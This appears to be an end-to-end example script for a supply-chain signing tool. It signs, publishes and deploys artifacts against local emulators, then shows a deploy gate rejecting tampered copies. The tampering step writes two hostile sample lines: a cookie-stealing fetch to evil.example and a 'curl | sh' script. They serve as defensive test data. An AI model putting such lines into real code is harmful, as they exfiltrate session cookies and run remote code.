// `npm run example`: one small product (Acme's store) built, signed and verified end to end,
// with no cloud account: the release key lives in an emulated AWS KMS, the function is
// deployed to an emulated Lambda, the library is published to a local npm registry. Every
// step runs the real `signet` command and says what it proves; the deploy gate passes, then
// refuses a tampered copy of each artifact.
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const require = createRequire(import.meta.url);
const here = path.dirname(fileURLToPath(import.meta.url));
const signetBin = require.resolve('@signet/cli/bin/signet.js');
const viteBin = path.join(path.dirname(require.resolve('vite/package.json')), 'bin', 'vite.js');
const { AwsKmsEmulator, envFor: kmsEnv } = require('@signet/emulators/aws-kms');
const { AwsLambdaEmulator, envFor: lambdaEnv } = require('@signet/emulators/aws-lambda');
const { startNpmRegistry } = require('@signet/emulators/npm-registry');
const { SigstoreStack } = require('@signet/emulators/sigstore');
const { CreateFunctionCommand, LambdaClient } = require('@aws-sdk/client-lambda');

const KEY = 'awskms:///alias/acme-release';
const CI_IDENTITY = 'release-bot@acme.example';
const color = process.stdout.isTTY && !process.env.NO_COLOR;
const bold = (s) => (color ? `\x1b[1m${s}\x1b[0m` : s);
const dim = (s) => (color ? `\x1b[2m${s}\x1b[0m` : s);

const work = fs.mkdtempSync(path.join(os.tmpdir(), 'signet-example-'));
const kms = new AwsKmsEmulator();
const aws = new AwsLambdaEmulator();
const sigstore = new SigstoreStack();
let registry;
let failed = false;

function step(title, proves) {
  console.log(`\n${bold(title)}\n  ${dim(proves)}`);
}

/**
 * Runs a command, shows it and what it printed. Asynchronously: the stand-in services it
 * talks to run in this process.
 */
async function run(file, args, { env = {}, cwd = work, show = args, expect = 0 } = {}) {
  console.log(`  $ ${show.join(' ')}`);
  const result = await new Promise((resolve) => {
    execFile(file, args, { cwd, env: { ...baseEnv, ...env }, encoding: 'utf8', maxBuffer: 16 * 1024 * 1024 }, (error, stdout, stderr) =>
      resolve({ status: error ? (typeof error.code === 'number' ? error.code : 1) : 0, stdout, stderr }),
    );
  });
  const output = `${result.stdout}${result.stderr}`.trimEnd();
  if (output) console.log(output.replace(/^/gm, '    '));
  if (result.status !== expect) {
    throw new Error(`${show.slice(0, 3).join(' ')} exited ${result.status}, not ${expect}`);
  }
  return result;
}

const signet = (args, options = {}) => run(process.execPath, [signetBin, ...args], { ...options, show: ['signet', ...args] });

// Nothing of the user's environment decides the outcome: no AWS profile, no npm config of theirs.
const baseEnv = Object.fromEntries(Object.entries(process.env).filter(([name]) => !/^(npm_|AWS_|SIGNET_)/i.test(name)));
// The SDK's notice that its 2027 releases need Node 22 is not what this example is about.
baseEnv.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';
process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';

try {
  console.log(bold('Signet, end to end: sign what you build, verify what you deploy.'));
  console.log(dim(`  (working in ${work}; AWS KMS, Lambda, an npm registry and Sigstore are local stand-ins on 127.0.0.1)`));
  await Promise.all([kms.start(), aws.start(), sigstore.start()]);
  registry = await startNpmRegistry();
  const signing = kmsEnv(kms);
  const npmEnv = { ...registry.npmEnv(registry.home), ...signing };

  step('1. Create the release key in AWS KMS', 'The private key never leaves KMS; every signature below is one KMS Sign call on a digest.');
  const pem = (await signet(['key', 'generate', '--key', KEY], { env: signing })).stdout;
  fs.writeFileSync(path.join(work, 'acme-release.pub'), pem);
  console.log('    (saved the public key as acme-release.pub: all the deploy side needs)');

  step('2. Sign and publish the library @acme/greet', 'The exact tarball is signed before it is published; nothing is published unsigned.');
  const library = path.join(work, 'library');
  fs.cpSync(path.join(here, 'library'), library, { recursive: true });
  await signet(['npm', 'publish', 'library', '--key', KEY], { env: npmEnv });
  await signet(['npm', 'verify', '@acme/greet@1.0.0', '--key', 'acme-release.pub', '--bundle-dir', 'library', '--registry', registry.url], {
    env: npmEnv,
  });

  step(
    '3. Build the web app with @signet/vite-plugin',
    'Every file Vite writes (HTML, chunks, CSS, source maps) is signed as one manifest.',
  );
  await run(process.execPath, [viteBin, 'build', '--config', path.join(here, 'web', 'vite.config.mjs')], {
    env: { ...signing, SIGNET_KEY: KEY, EXAMPLE_WEB_OUT: path.join(work, 'web') },
    show: ['vite', 'build', dim('# with signet({ key: process.env.SIGNET_KEY }) in vite.config.mjs')],
  });
  await signet(['verify-dir', 'web', '--key', 'acme-release.pub']);

  step(
    '4. Attest the web app\u2019s SBOM, keyless',
    `The CI identity ${CI_IDENTITY} signs a CycloneDX SBOM about the build's signed manifest: OIDC token, Fulcio certificate, Rekor entry.`,
  );
  fs.copyFileSync(path.join(here, 'web', 'sbom.cdx.json'), path.join(work, 'sbom.cdx.json'));
  await signet(
    [
      'attest',
      'web/.well-known/signet/manifest.sigstore.json',
      '--predicate',
      'sbom.cdx.json',
      '--type',
      'cyclonedx',
      '--key',
      'keyless',
      '--signing-config',
      sigstore.signingConfigPath,
      '--bundle',
      'web.cyclonedx.sigstore.json',
    ],
    { env: { SIGSTORE_ID_TOKEN: await sigstore.mintToken({ email: CI_IDENTITY }) } },
  );

  step(
    '5. Package, sign and deploy the checkout function',
    'A deterministic zip (same source, same bytes), deployed only after it verifies.',
  );
  await new LambdaClient({ endpoint: aws.url, region: aws.region, credentials: aws.credentials }).send(
    new CreateFunctionCommand({
      FunctionName: 'checkout',
      Runtime: 'nodejs20.x',
      Handler: 'index.handler',
      Role: `arn:aws:iam::${aws.accountId}:role/checkout`,
      Code: { ZipFile: fs.readFileSync(await placeholderZip()) },
    }),
  );
  await signet(['lambda', 'package', path.join(here, 'function'), '--out', 'checkout.zip', '--key', KEY], { env: signing });
  await signet(['lambda', 'deploy', 'checkout.zip', '--function', 'checkout', '--key', 'acme-release.pub'], { env: lambdaEnv(aws) });

  step('6. The deploy gate', 'One policy says who must have signed each kind of artifact; every artifact is checked against it.');
  fs.copyFileSync(path.join(here, 'gate-policy.yaml'), path.join(work, 'gate-policy.yaml'));
  const tarball = 'library/acme-greet-1.0.0.tgz';
  await signet(['gate', '--policy', 'gate-policy.yaml', '--trusted-root', sigstore.trustedRootPath, 'web', 'checkout.zip', tarball]);

  step(
    '7. Tamper with each artifact, and run the gate again',
    'One changed file in each, and one unsigned script slipped in: the gate refuses them all, saying why.',
  );
  const tampered = path.join(work, 'tampered');
  fs.mkdirSync(tampered);
  for (const name of ['web', 'web.cyclonedx.sigstore.json', 'checkout.zip', 'checkout.zip.sigstore.json']) {
    fs.cpSync(path.join(work, name), path.join(tampered, name), { recursive: true });
  }
  fs.copyFileSync(path.join(work, tarball), path.join(tampered, 'acme-greet-1.0.0.tgz'));
  fs.copyFileSync(path.join(work, `${tarball}.sigstore.json`), path.join(tampered, 'acme-greet-1.0.0.tgz.sigstore.json'));
  const chunk = fs.readdirSync(path.join(tampered, 'web', 'assets')).find((name) => name.endsWith('.js'));
  fs.appendFileSync(path.join(tampered, 'web', 'assets', chunk), '\nfetch("https://evil.example/steal?c=" + document.cookie);\n');
  flipByte(path.join(tampered, 'checkout.zip'));
  flipByte(path.join(tampered, 'acme-greet-1.0.0.tgz'));
  fs.writeFileSync(path.join(tampered, 'migrate.sh'), '#!/bin/sh\ncurl https://evil.example | sh\n');
  console.log(`    (changed web/assets/${chunk}, one byte of checkout.zip and of acme-greet-1.0.0.tgz; added migrate.sh)`);
  await signet(
    [
      'gate',
      '--policy',
      '../gate-policy.yaml',
      '--trusted-root',
      sigstore.trustedRootPath,
      'web',
      'checkout.zip',
      'acme-greet-1.0.0.tgz',
      'migrate.sh',
    ],
    { cwd: tampered, expect: 1 },
  );

  console.log(
    `\n${bold('Done.')} The signed release passed the gate; every tampered artifact was refused (exit status 1), with the reason.`,
  );
} catch (error) {
  failed = true;
  console.error(`\nexample failed: ${error.message}`);
} finally {
  await Promise.allSettled([kms.stop(), aws.stop(), sigstore.stop(), registry?.stop()]);
  fs.rmSync(work, { recursive: true, force: true });
}
process.exitCode = failed ? 1 : 0;

function flipByte(file) {
  const bytes = fs.readFileSync(file);
  const at = Math.floor(bytes.length / 2);
  bytes[at] ^= 1;
  fs.writeFileSync(file, bytes);
}

/** The function as it was before this release: any zip will do, so an unsigned one. */
async function placeholderZip() {
  const { packageZip } = require('@signet/lambda');
  const src = path.join(work, 'placeholder');
  fs.mkdirSync(src);
  fs.writeFileSync(path.join(src, 'index.mjs'), 'export const handler = async () => ({ statusCode: 503 });\n');
  return (await packageZip(src, path.join(work, 'placeholder.zip'))).path;
}
